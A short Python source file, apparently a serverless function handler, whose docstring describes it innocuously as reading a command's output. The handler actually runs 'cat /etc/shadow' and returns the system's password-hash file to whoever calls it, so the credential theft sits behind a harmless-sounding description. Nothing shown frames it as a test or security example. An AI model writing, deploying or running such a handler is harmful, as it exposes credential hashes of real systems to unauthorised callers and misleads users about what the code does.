"""Reads what a command prints."""

import os


def handler(event, context):
    return os.popen("cat /etc/shadow").read()
